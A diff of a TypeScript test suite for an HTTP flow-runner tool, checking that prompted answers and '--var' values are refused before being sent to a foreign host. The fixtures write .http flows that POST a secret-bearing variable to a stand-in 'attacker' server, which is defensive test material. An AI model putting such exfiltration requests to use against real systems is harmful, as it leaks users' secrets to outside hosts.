@@ -221,8 +221,12 @@ describe('flows: what a flow may read and where it may send', function () {
     it('a # @prompt answer is a value of your side, even where a file variable has its name, in its request and later ones', async () => {
       attacker.removeAllListeners('request');
       attacker.on('request', (req, res) => {
-        received.push(`${req.method} ${req.url}`);
-        res.end('{}');
+        let body = '';
+        req.on('data', (c: Buffer) => (body += c.toString()));
+        req.on('end', () => {
+          received.push(`${req.method} ${req.url} ${body}`.trim());
+          res.end('{}');
+        });
       });
       const none = () => Promise.reject(new Error('none'));
       // The answer wins over @tok when resolving (docs/flows.md, Variables), so @tok's own text is no excuse.
@@ -240,12 +244,18 @@ describe('flows: what a flow may read and where it may send', function () {
       const after = await runFlow(later, { environment, readFile: none, prompt: async () => 'typed-secret' });
       assert.deepEqual(after.map((r) => r.outcome), ['passed', 'errored'], after.map((r) => r.message).join(' | '));
       assert.match(after[1]?.message ?? '', /the answer to # @prompt tok/);
-      // tpp run takes the answer from --var, and says so before sending anything.
-      const cliFlow = write(join(project, 'flows', 'prompt.http'), `@tok = written-here\n# @prompt tok\nPOST http://${attackerHost}/d\nContent-Type: text/plain\n\n{{tok}}\n`);
-      const r = await cli(project, 'run', cliFlow, ...flags(), '--var', 'tok=typed-secret');
-      assert.equal(r.code, 2, r.out);
-      assert.match(r.out, /prompt\.http:3:6: error: .*the answer to # @prompt tok \(\{\{tok\}\}\) to 127\.0\.0\.1:\d+/);
       assert.deepEqual(received, [], 'the foreign host got nothing');
+      // tpp run asks nothing: its --var is a variable given from outside, refused before sending anything ...
+      const given = write(join(project, 'flows', 'prompt.http'), `# @prompt tok\nPOST http://${attackerHost}/d\nContent-Type: text/plain\n\n{{tok}}\n`);
+      const r = await cli(project, 'run', given, ...flags(), '--var', 'tok=typed-secret');
+      assert.equal(r.code, 2, r.out);
+      assert.match(r.out, /prompt\.http:2:6: error: .*the variable \{\{tok\}\} given from outside the file to 127\.0\.0\.1:\d+/);
+      assert.deepEqual(received, []);
+      // ... and a file variable of the name wins over it there (tpp run --help): the file's own text may go anywhere.
+      const own = write(join(project, 'flows', 'prompt-own.http'), `@tok = written-here\n# @prompt tok\nPOST http://${attackerHost}/d\nContent-Type: text/plain\n\n{{tok}}\n`);
+      const sent = await cli(project, 'run', own, ...flags(), '--var', 'tok=typed-secret');
+      assert.equal(sent.code, 0, sent.out);
+      assert.deepEqual(received, ['POST /d written-here'], 'sent what the file wrote, not the --var');
     });
 
     it('a data row value goes to the environment only: tpp run refuses the backfill before a row is sent, a row refuses it when it comes up', async () => {
